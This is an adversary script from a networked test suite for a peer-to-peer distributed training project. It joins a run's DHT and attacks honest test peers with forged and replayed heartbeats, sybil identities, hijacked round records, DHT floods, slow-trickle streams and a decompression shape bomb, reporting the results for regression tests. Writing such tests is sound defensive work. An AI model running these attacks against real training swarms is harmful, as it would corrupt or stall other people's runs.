"""An attacker peer for networked tests: it joins a run's DHT and performs the attacks named
on its command line against the honest peers, reporting each as one JSON line.

    python tests/net/adversary.py --run RUN --initial-peer MADDR... --victims ID,ID
        --attacks forged_heartbeats,plain_values,fake_members,forged_records,bad_contributions,state_flood

It is built on the project's own transport (with no record rules, so its own DHT node
keeps whatever it writes) and on the stock hivemind DHT under it for plain values, as a
stranger's program would. Prints `{"ready": true, ...}`, then one result per attack, then
`{"done": true}`, and stays in the DHT until stdin closes (its junk stays reachable).
"""

from __future__ import annotations

import argparse
import asyncio
import json
import logging
import os
import sys
from typing import Any

import msgpack
import torch

from p2pdiloco import compress, wire
from p2pdiloco.identity import Identity, load_identity
from p2pdiloco.protocol.election import synchronizer_order
from p2pdiloco.protocol.membership import (
    HEARTBEATS,
    PROTOCOL_VERSION,
    Heartbeat,
    members_key,
    open_heartbeat,
)
from p2pdiloco.protocol.rounds import (
    FINALITY_DEPTH,
    RoundRecord,
    open_record,
    record_subkey,
    rounds_key,
    seal_record,
)
from p2pdiloco.transport import make_transport
from p2pdiloco.wire import messages
from p2pdiloco.wire.contributions import (
    decode_contribution_list,
    encode_audit_request,
    seal_contribution,
)

FAR_FUTURE_S = 10**6


def emit(event: dict[str, Any]) -> None:
    sys.stdout.write(json.dumps(event) + "\n")
    sys.stdout.flush()


class Adversary:
    def __init__(self, transport, run: str, victims: list[str]) -> None:
        self.transport = transport
        self.run = run
        self.victims = victims
        self.stolen = b""

    @property
    def me(self) -> Identity:
        return self.transport.identity

    async def forged_heartbeats(self) -> dict:
        """Heartbeats in the victims' names: leaving, client mode, far-future expiry."""
        stored = []
        for victim in self.victims:
            beat = Heartbeat(peer_id=victim, status="leaving", client_mode=True, config_hash="x")
            forged = self.me.seal(HEARTBEATS.domain(self.run), beat.encode())
            unsigned = beat.encode()
            for value in (forged, unsigned):
                stored.append(
                    await self.transport.store(
                        members_key(self.run), victim, value, self.transport.now() + FAR_FUTURE_S
                    )
                )
        # a malformed but self-signed beat: rounds=[inf], config_hash=5
        data = msgpack.unpackb(Heartbeat(peer_id=self.me.peer_id).encode(), raw=False)
        data.update(rounds=[float("inf")], config_hash=5, protocol=PROTOCOL_VERSION)
        raw = self.me.seal(HEARTBEATS.domain(self.run), msgpack.packb(data, use_bin_type=True))
        stored.append(
            await self.transport.store(
                members_key(self.run), self.me.peer_id, raw, self.transport.now() + 60
            )
        )
        return {"stored": stored}

    async def plain_values(self) -> dict:
        """What a stock hivemind client can do: a plain value over a whole dictionary key."""
        dht = self.transport._daemon.dht  # the hivemind DHT under our transport
        results = []
        for key in (members_key(self.run), rounds_key(self.run, 0)):
            future = dht.store(
                key, b"plain", self.transport.now() + FAR_FUTURE_S, return_future=True
            )
            results.append(bool(await asyncio.wrap_future(future)))
        return {"stored": results}

    async def fake_members(self, count: int = 1000) -> dict:
        beat = self.me.seal(HEARTBEATS.domain(self.run), Heartbeat(peer_id=self.me.peer_id).encode())
        stored = 0
        for start in range(0, count, 100):
            batch = [
                self.transport.store(
                    members_key(self.run), f"fake-{i}", beat, self.transport.now() + 600
                )
                for i in range(start, min(count, start + 100))
            ]
            stored += sum(await asyncio.gather(*batch))
        return {"stored": stored}

    async def forged_records(self) -> dict:
        """Round records far in the future (signed by us) and one in a victim's name."""
        stored = []
        parent = "f" * 32
        for round_id in range(1000, 1005):
            record = RoundRecord(
                round=round_id,
                fragment=0,
                synchronizer=self.me.peer_id,
                hash=f"{round_id:032x}",
                parent=parent,
                digest="d" * 32,
                closed_at=self.transport.now(),
            )
            parent = record.hash
            stored.append(
                await self.transport.store(
                    rounds_key(self.run, 0),
                    record_subkey(round_id, self.me.peer_id),
                    seal_record(self.me, self.run, record),
                    self.transport.now() + 3000,
                )
            )
        victim = self.victims[0]
        lie = RoundRecord(
            round=0, fragment=0, synchronizer=victim, hash="e" * 32, parent="0" * 32, closed_at=0.0
        )
        stored.append(
            await self.transport.store(
                rounds_key(self.run, 0),
                record_subkey(0, victim),
                self.me.seal(f"round/{self.run}", lie.encode()),
                self.transport.now() + 3000,
            )
        )
        return {"stored": stored}

    async def free_chain(self, duration_s: float | None = None, lead: int = 2) -> dict:
        """Issue 42, item 3: a free key signs a chain from an "expired past" (round 1, a
        parent nobody knows) to `lead` rounds past the swarm's head, and keeps it ahead for
        `duration_s` (default $FLOOD_S or 30): before finality, a free chain longer than the
        head round won on every replica. It names itself alone; no update exists."""
        loop = asyncio.get_running_loop()
        deadline = loop.time() + (float(os.environ.get("FLOOD_S", "30")) if duration_s is None else duration_s)
        key, parent, top, stored, refused = rounds_key(self.run, 0), os.urandom(16).hex(), 0, 0, 0
        while loop.time() < deadline:
            head = await self._current_round()
            for round_id in range(max(top + 1, 1), head + lead + 1):
                record = RoundRecord(
                    round=round_id, fragment=0, synchronizer=self.me.peer_id, hash=os.urandom(16).hex(),
                    parent=parent, digest=os.urandom(16).hex(), closed_at=self.transport.now(),
                    contributors=((self.me.peer_id, 1.0, 64),), holders=(self.me.peer_id,),
                )  # fmt: skip
                ok = await self.transport.store(
                    key, record_subkey(round_id, self.me.peer_id), seal_record(self.me, self.run, record),
                    self.transport.now() + 1800,
                )  # fmt: skip
                stored, refused = stored + ok, refused + (not ok)
                parent, top = record.hash, round_id
            await asyncio.sleep(2.0)
        return {"stored": stored, "refused": refused, "top": top, "key": self.me.peer_id}

    async def record_flood(self, rounds: int = 500, sybils: int = 40) -> dict:
        """Issue 42, item 4: one free key signs `rounds` valid round records of fragment 0 for
        the rounds ahead of the head, each of ~5 KiB (a holders list of 150 peer ids: a
        value of 40 KiB breaks hivemind's own pipe to its DHT process after a few dozen
        stores), and `sybils` more free keys sign one each; all stored in the DHT. The one key is $LATE_RIVAL_KEY's when set (a key the chain named: what a
        reader counts), else ours. Then a stock hivemind client reads the key back. Before
        the fix the victims' DHT nodes kept all of it (2.7 MB), and every replica read and
        verified it on every look at the chain; a libp2p key was full after ~190 records and
        refused honest commits."""
        flooder = load_identity(os.environ["LATE_RIVAL_KEY"]) if "LATE_RIVAL_KEY" in os.environ else self.me
        head = await self._current_round()
        holders = tuple(Identity.generate().peer_id for _ in range(150))
        key = rounds_key(self.run, 0)

        def big(signer: Identity, round_id: int) -> bytes:
            record = RoundRecord(
                round=round_id, fragment=0, synchronizer=signer.peer_id, hash=f"{round_id:032x}",
                parent=f"{round_id - 1:032x}", digest="d" * 32, holders=holders, closed_at=self.transport.now(),
            )  # fmt: skip
            return seal_record(signer, self.run, record)

        async def store(signer: Identity, round_id: int) -> bool:
            value = big(signer, round_id)
            return await self.transport.store(key, record_subkey(round_id, signer.peer_id), value, self.transport.now() + 1800)

        jobs = [(flooder, head + 10 + n) for n in range(rounds)]
        jobs += [(Identity.generate(), head + 10 + n) for n in range(sybils)]
        stored = 0
        for start in range(0, len(jobs), STORE_BATCH):
            batch = jobs[start : start + STORE_BATCH]
            stored += sum(await asyncio.gather(*(store(s, r) for s, r in batch)))
        raw = await _stock_get(self.transport, key)
        mine = sum(len(v) for s, v in raw.items() if s.endswith(flooder.peer_id))
        return {
            "signed": len(jobs), "stored": stored, "record_bytes": len(big(flooder, head)),
            "read_records": len(raw), "read_bytes": sum(len(v) for v in raw.values()), "read_own_bytes": mine,
        }  # fmt: skip

    async def _contribute(self, victim: str, request: bytes) -> str:
        try:
            raw = await self.transport.call(
                victim, f"{self.run}.{messages.RPC_CONTRIBUTE}", request, timeout_s=30
            )
        except Exception as exc:  # noqa: BLE001 - report what the victim did
            return f"error:{type(exc).__name__}: {str(exc)[:200]}"
        reply = messages.decode_reply(raw, wire.WireLimits())
        return "undecodable" if isinstance(reply, wire.Rejected) else str(reply.meta.get("status"))

    async def _current_round(self) -> int:
        """The swarm's round of fragment 0, as the victims' own heartbeats say."""
        records = await self.transport.get(members_key(self.run))
        rounds = [0]
        for subkey, (raw, _) in records.items():
            beat = open_heartbeat(self.run, subkey, raw)
            if not isinstance(beat, str) and beat.peer_id in self.victims and beat.rounds:
                rounds.append(beat.rounds[0])
        return max(rounds)

    def _frame(self, round_id: int, meta: dict, shape: tuple[int, ...] = (4,)) -> bytes:
        tensors = compress.encode_tensors(compress.make_codec("fp32"), {"w": torch.ones(shape)})
        message = wire.Message(
            kind=wire.CONTRIBUTION,
            run=self.run,
            round=round_id,
            fragment=0,
            meta={
                "peer": self.me.peer_id,
                "base_round": round_id,
                "tokens": 64,
                "steps": 2,
                **meta,
            },
            tensors=tensors,
        )
        return wire.encode_message(message)

    async def _stolen_contribution(self) -> bytes:
        """An honest learner's signed contribution, fetched as any auditor may."""
        current = await self._current_round()
        for round_id in range(current - 1, max(-1, current - 8), -1):
            for victim in self.victims:
                try:
                    raw = await self.transport.call(
                        victim,
                        f"{self.run}.{messages.RPC_GET_CONTRIBUTIONS}",
                        encode_audit_request(round_id, 0),
                        timeout_s=30,
                    )
                except Exception:  # noqa: BLE001 - not kept there: try the next one
                    continue
                kept = decode_contribution_list(raw, 64, 1 << 26)
                if not isinstance(kept, str) and kept:
                    return kept[0]
        return b"none stolen"

    def _cases(self, round_id: int) -> dict[str, bytes]:
        frame = self._frame(round_id, {})
        domain = f"contribution/{self.run}"
        return {
            "replayed": self.stolen,
            "unsigned": frame,
            "forged_signature": Identity.generate().seal(domain, frame),
            "junk": self.me.seal(domain, b"\x00" * 64),
            "wrong_layout": seal_contribution(
                self.me, self.run, self._frame(round_id, {}, shape=(3, 3))
            ),
            "nan_meta": seal_contribution(
                self.me, self.run, _with_meta(frame, step_time_s=float("nan"))
            ),
            "shape_bomb": seal_contribution(
                self.me, self.run, _shape_bomb(self.run, self.me.peer_id, round_id)
            ),
        }

    async def bad_contributions(self) -> dict:
        """A replayed honest one, unsigned, forged, junk, wrong-layout, NaN-meta and shape-bomb contributions, each
        for the round the swarm is in (tried again when that round closed meanwhile)."""
        self.stolen = await self._stolen_contribution()
        replies: dict[str, list[str]] = {}
        for name in self._cases(0):
            replies[name] = []
            for victim in self.victims:
                round_id = await self._current_round()
                for _ in range(20):  # heartbeats lag the rounds: step towards the open one
                    reply = await self._contribute(victim, self._cases(round_id)[name])
                    if reply not in (messages.Reply.LATE, messages.Reply.BEHIND):
                        break
                    round_id = max(0, round_id + (1 if reply == messages.Reply.LATE else -1))
                replies[name].append(reply)
        return {"replies": replies}

    async def state_flood(self, count: int = 30) -> dict:
        request = wire.encode_message(
            wire.Message(
                kind=wire.STATE_REQUEST,
                run=self.run,
                round=0,
                fragment=0,
                meta={"peer": self.me.peer_id},
            )
        )
        refused = 0
        for _ in range(count):
            try:
                raw = await self.transport.call(
                    self.victims[0],
                    f"{self.run}.{messages.RPC_GET_STATE}",
                    request,
                    timeout_s=30,
                    max_response_bytes=1 << 30,
                )
            except Exception:  # noqa: BLE001
                continue
            reply = messages.decode_reply(raw, wire.WireLimits())
            if (
                not isinstance(reply, wire.Rejected)
                and reply.meta.get("status") == messages.Reply.REJECTED
            ):
                refused += 1
        return {"requests": count, "refused": refused}

    async def slow_bodies(self, duration_s: float | None = None, identities: int = 8) -> dict:
        """Slot holding (issue 28, item 2): `identities` fresh daemons beside ours open, to
        every victim, as many `contribute` / `get_update` / `hold_update` streams as a
        caller may hold, declare a body and trickle it a byte at a time, re-opening what
        the victims drop, for `duration_s` (default $SLOW_BODIES_S or 60; see
        tests/net/slow_bodies.py)."""
        from slow_bodies import attack_duration_s, trickle_attack  # noqa: PLC0415 - beside this script

        duration_s = attack_duration_s() if duration_s is None else duration_s
        return await trickle_attack(self.transport, self.run, self.victims, duration_s, identities)

    async def _victims_beats(self) -> dict[str, Heartbeat]:
        """The victims' heartbeats as the DHT holds them now (signed, as they wrote them)."""
        from floods import victims_beats  # noqa: PLC0415 - beside this script

        return await victims_beats(self.transport, self.run, self.victims)

    async def sybil_heartbeats(self, count: int = 30) -> dict:
        """Issue 28, item 12 and "measured on main": `count` free, valid identities beat as
        learners with the run's config hash (read from a victim's beat) and a dialable-
        looking address nobody answers at, so that an election over live learners picks
        them and learners fail over through them. Each lives as long as the rules allow."""
        beats = await self._victims_beats()
        config_hash = next((b.config_hash for b in beats.values() if b.config_hash), "")
        stored = 0
        for i in range(count):
            sybil = Identity.generate()
            sent_at = self.transport.now()
            beat = Heartbeat(
                peer_id=sybil.peer_id, status="training", config_hash=config_hash,
                maddrs=(f"/ip4/10.255.{i // 250}.{i % 250 + 1}/tcp/4001/p2p/{sybil.peer_id}",),
                sent_at=sent_at, live_s=240.0,
            )  # fmt: skip
            sealed = sybil.seal(HEARTBEATS.domain(self.run), beat.encode())
            stored += bool(
                await self.transport.store(members_key(self.run), sybil.peer_id, sealed, sent_at + 299)
            )
        return {"stored": stored, "config_hash": config_hash[:12]}

    async def hijacked_rounds(self, duration_s: float | None = None, fragments: int = 4) -> dict:
        """"Measured on main" (issue 28): for each new head of each fragment's chain, a
        record for the next round, signed by a fresh key ground to out-rank every victim
        for that round, with the right parent and an update that exists nowhere. Before
        open runs required a record's ancestry to name its synchronizer, every peer
        followed it and waited for the update: no round closed. Lasts `duration_s`
        (default $HIJACK_S or 60)."""
        loop = asyncio.get_running_loop()
        duration_s = float(os.environ.get("HIJACK_S", "60")) if duration_s is None else duration_s
        deadline = loop.time() + duration_s
        signed: set[tuple[int, int]] = set()
        while loop.time() < deadline:
            for fragment in range(fragments):
                raw = await self.transport.get(rounds_key(self.run, fragment))
                heads = [
                    r for r in (open_record(self.run, value) for value, _ in raw.values())
                    if r is not None and r.synchronizer in self.victims
                ]  # fmt: skip
                if not heads:
                    continue
                head = max(heads, key=lambda r: r.round)
                target = head.round + 1
                if (fragment, target) in signed:
                    continue
                while True:  # patience: about one key in len(victims) + 1 out-ranks them all
                    key = Identity.generate()
                    if synchronizer_order(self.run, target, fragment, [key.peer_id, *self.victims])[0] == key.peer_id:
                        break
                record = RoundRecord(
                    round=target, fragment=fragment, synchronizer=key.peer_id, hash=f"{target:032x}",
                    parent=head.hash, digest=Identity.generate().peer_id[-32:], closed_at=self.transport.now(),
                    contributors=((key.peer_id, 1.0, 64),), holders=(key.peer_id,),
                )  # fmt: skip
                await self.transport.store(
                    rounds_key(self.run, fragment), record_subkey(target, key.peer_id),
                    seal_record(key, self.run, record), self.transport.now() + 600,
                )  # fmt: skip
                signed.add((fragment, target))
            await asyncio.sleep(0.5)
        return {"records_signed": len(signed)}

    async def late_rivals(self, duration_s: float | None = None, fragments: int = 4, lookback: int = 8) -> dict:
        """Issue 42, item 1: a peer the chain named (its key file in $LATE_RIVAL_KEY: an
        honest learner's key, as a peer turned attacker has its own) signs, for old rounds
        its key out-ranks the committed synchronizer in, a rival with the right parent, a
        current close time and a state that exists nowhere. By rank alone every replica
        dropped the rounds after it; a round three deep is final on every replica now.
        Lasts `duration_s` (default $FLOOD_S or 20), and on, up to three times as long again,
        until it has signed one: a random key out-ranks the best of three synchronizers in
        about one round in four, and a slow machine closes few rounds in 20 s (CI once
        waited through 20 s and a rerun without a single round its key out-ranked)."""
        me = load_identity(os.environ["LATE_RIVAL_KEY"])
        loop = asyncio.get_running_loop()
        lasts = float(os.environ.get("FLOOD_S", "20")) if duration_s is None else duration_s
        deadline, cap = loop.time() + lasts, loop.time() + 4 * lasts
        signed: set[tuple[int, int]] = set()
        heads, refused, skipped = {}, 0, {"unfit": 0, "out_ranked": 0}
        while loop.time() < deadline or (not signed and loop.time() < cap):
            for fragment in range(fragments):
                raw = await self.transport.get(rounds_key(self.run, fragment))
                committed: dict[int, list[RoundRecord]] = {}
                for value, _expiration in raw.values():
                    record = open_record(self.run, value)
                    if record is not None and record.synchronizer in self.victims:
                        committed.setdefault(record.round, []).append(record)
                if not committed:
                    continue
                head = heads[fragment] = max(committed)
                for target in range(max(head - lookback, 0), head - FINALITY_DEPTH):
                    ours = committed.get(target, [])
                    if (fragment, target) in signed:
                        continue
                    if len(ours) != 1 or ours[0].synchronizer == me.peer_id:
                        skipped["unfit"] += 1
                        continue
                    order = synchronizer_order(self.run, target, fragment, [me.peer_id, ours[0].synchronizer])
                    if order[0] != me.peer_id:
                        skipped["out_ranked"] += 1
                        continue  # its key does not out-rank this round's synchronizer
                    record = RoundRecord(
                        round=target, fragment=fragment, synchronizer=me.peer_id, hash=f"late{target:028x}",
                        parent=ours[0].parent, digest=Identity.generate().peer_id[-32:],
                        closed_at=self.transport.now(), contributors=((me.peer_id, 1.0, 64),), holders=(me.peer_id,),
                    )  # fmt: skip
                    stored = await self.transport.store(
                        rounds_key(self.run, fragment), record_subkey(target, me.peer_id),
                        seal_record(me, self.run, record), self.transport.now() + 600,
                    )  # fmt: skip
                    if stored:
                        signed.add((fragment, target))
                    else:
                        refused += 1
            await asyncio.sleep(1.0)
        return {
            "records_signed": len(signed), "rounds": sorted(r for _, r in signed), "heads": heads,
            "refused": refused, "skipped": skipped, "key": me.peer_id,
        }  # fmt: skip

    async def forged_state(self, duration_s: float | None = None) -> dict:
        """Issue 42, item 2: the key in $LATE_RIVAL_KEY (one the chain named) signs, on every
        new head of fragment 0, records for the next 10 rounds whose updates exist nowhere,
        the last naming the hash of a state we captured from a victim, and we serve that
        state as a learner at the forged head, for `duration_s` (default $FLOOD_S or 30;
        tests/net/forged_state.py). Before the fix every replica installed it."""
        from forged_state import forged_state_attack  # noqa: PLC0415 - beside this script

        signer = load_identity(os.environ["LATE_RIVAL_KEY"])
        duration_s = float(os.environ.get("FLOOD_S", "30")) if duration_s is None else duration_s

        def relabel(frame: bytes, round_id: int) -> bytes:
            return _rewrite_header(frame, lambda header: header.update(round=round_id))

        return await forged_state_attack(self.transport, self.run, self.victims, signer, duration_s, relabel, emit)

    async def replayed_beats(self, wait_s: float = 10.0) -> dict:
        """Issue 28, item 1: capture each victim's signed beat, wait until newer ones were
        written, then replay the captured ones (a `leaving` one if seen) with expiration
        now+299: before the fix, the latest expiration won for five minutes."""
        captured = await self._victims_beats()
        records = await self.transport.get(members_key(self.run))
        sealed = {v: records[v][0] for v in captured if v in records}
        await asyncio.sleep(wait_s)  # the victims beat again meanwhile: ours is old now
        stored = []
        for victim, value in sealed.items():
            stored.append(
                await self.transport.store(members_key(self.run), victim, value, self.transport.now() + 299)
            )
        return {"replayed": len(sealed), "stored": stored}

    async def notice_flood(
        self, duration_s: float | None = None, identities: int = 100, live_share: float = 0.5, every_s: float = 5.0
    ) -> dict:
        """Issue 28, item 11: `identities` free, valid identities (`live_share` of them also
        beating as learners with the run's config hash) each sign a fraud notice against
        every recent canonical record, and every new one, for `duration_s` (default
        $FLOOD_S or 60; tests/net/floods.py). Before the fix every peer verified every new
        notice: a fragment downloaded from each notifier."""
        from floods import flood_duration_s, notice_flood  # noqa: PLC0415 - beside this script

        duration_s = flood_duration_s() if duration_s is None else duration_s
        return await notice_flood(self.transport, self.run, self.victims, duration_s, identities, live_share, every_s)

    async def hold_flood(self, duration_s: float | None = None, identities: int = 8, every_s: float = 2.0) -> dict:
        """Issue 28, item 10: `identities` fresh daemons push `hold_update` frames to every
        victim (a genuine update re-labelled for the rounds a holder admits, naming the
        pusher as synchronizer; far rounds; junk) for `duration_s` (default $FLOOD_S or
        60), then ask the victims for the genuine frames of the last rounds
        (tests/net/floods.py)."""
        from floods import flood_duration_s, hold_flood  # noqa: PLC0415 - beside this script

        duration_s = flood_duration_s() if duration_s is None else duration_s
        return await hold_flood(self.transport, self.run, self.victims, duration_s, identities, every_s)

    async def stale_donor(self, duration_s: float | None = None, lead: int = 2) -> dict:
        """Issue 28, item 8: download a valid state of every fragment from a victim, then
        beat as a learner at the chain's head (the freshest victim's round + `lead`) and
        serve that old state to every `get_state`, for `duration_s` (default $STALE_DONOR_S
        or 60; until $STALE_DONOR_STOP_FILE exists). Before the fix a joiner took it, most
        advanced claim first, and was rolled back (tests/net/stale_donor.py)."""
        from stale_donor import stale_donor_attack, stale_donor_duration_s  # noqa: PLC0415 - beside this script

        duration_s = stale_donor_duration_s() if duration_s is None else duration_s
        return await stale_donor_attack(self.transport, self.run, self.victims, duration_s, lead, emit)


STOCK_GET_S, STOCK_GET_TRIES = 60.0, 3
"""How long the attacker waits for a stock `DHT.get`, and how often it asks (unbounded, a
call lost on hivemind's pipe to its DHT process never returns)."""
STORE_BATCH = 8
"""Stores the record flood has in flight at once: hivemind's pipe to its DHT process broke
(BlockingIOError, the attacker hung) with dozens of large stores at once."""
ATTACK_MARGIN_S = 300.0
"""How much longer than its set length ($FLOOD_S, $SLOW_BODIES_S, $STALE_DONOR_S) one attack
may take: past it the attacker reports an error and goes on, so a test fails with the
attack's name at once, not after its own long wait for the attacker's next line."""


def attack_limit_s() -> float:
    lengths = [float(os.environ.get(name, 0)) for name in ("FLOOD_S", "SLOW_BODIES_S", "STALE_DONOR_S")]
    return ATTACK_MARGIN_S + max(lengths)


async def _stock_get(transport, key: str) -> dict[str, bytes]:
    """`{subkey: value}` under `key` as hivemind's own `DHT.get` returns it (no bound of ours)."""
    for attempt in range(STOCK_GET_TRIES):
        future = transport._daemon.dht.get(key, latest=True, return_future=True)
        try:
            found = await asyncio.wait_for(future, STOCK_GET_S)
            break
        except TimeoutError:
            future.cancel()
            if attempt == STOCK_GET_TRIES - 1:
                raise
    if found is None or not isinstance(found.value, dict):
        return {}
    return {str(s): item.value for s, item in found.value.items() if isinstance(item.value, bytes)}


def _rewrite_header(frame: bytes, edit) -> bytes:
    """`frame` with its msgpack header changed by `edit`, written by hand (our encoder
    refuses such frames): magic, u32 little-endian header length, header, payloads."""
    size = int.from_bytes(frame[4:8], "little")
    header = msgpack.unpackb(frame[8 : 8 + size], raw=False)
    edit(header)
    packed = msgpack.packb(header, use_bin_type=True)
    return frame[:4] + len(packed).to_bytes(4, "little") + packed + frame[8 + size :]


def _with_meta(frame: bytes, **meta: Any) -> bytes:
    return _rewrite_header(frame, lambda header: header["meta"].update(meta))


def _shape_bomb(run: str, peer: str, round_id: int) -> bytes:
    """A ~200-byte top-k frame declaring 2^28 elements (1 GiB decoded)."""
    tiny = wire.encode_message(
        wire.Message(
            kind=wire.CONTRIBUTION,
            run=run,
            round=round_id,
            fragment=0,
            meta={"peer": peer, "base_round": round_id, "tokens": 64, "steps": 2},
            tensors=compress.encode_tensors(
                compress.make_codec("topk", topk_fraction=0.5), {"w": torch.ones(4)}
            ),
        )
    )

    def bomb(header: dict) -> None:
        header["tensors"][0]["shape"] = [1 << 28]

    return _rewrite_header(tiny, bomb)


async def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--run", required=True)
    parser.add_argument("--initial-peer", action="append", default=[])
    parser.add_argument("--victims", required=True)
    parser.add_argument("--attacks", required=True)
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING, stream=sys.stderr)
    transport = make_transport("hivemind", initial_peers=args.initial_peer, startup_timeout_s=90)
    await transport.start()
    try:
        emit({"ready": True, "peer_id": transport.peer_id, "maddrs": transport.visible_maddrs()})
        adversary = Adversary(transport, args.run, args.victims.split(","))
        for attack in args.attacks.split(","):
            try:
                result = await asyncio.wait_for(getattr(adversary, attack)(), attack_limit_s())
            except TimeoutError:  # a hung call of the attacker's own DHT client, said at once
                result = {"error": f"timed out (a DHT call of its own, or the attack past {attack_limit_s():.0f} s)"}
            except Exception as exc:  # noqa: BLE001 - report, go on with the next attack
                result = {"error": f"{type(exc).__name__}: {exc}"}
            emit({"attack": attack, **result})
        emit({"done": True})
        await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    finally:
        await transport.shutdown()
    return 0


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
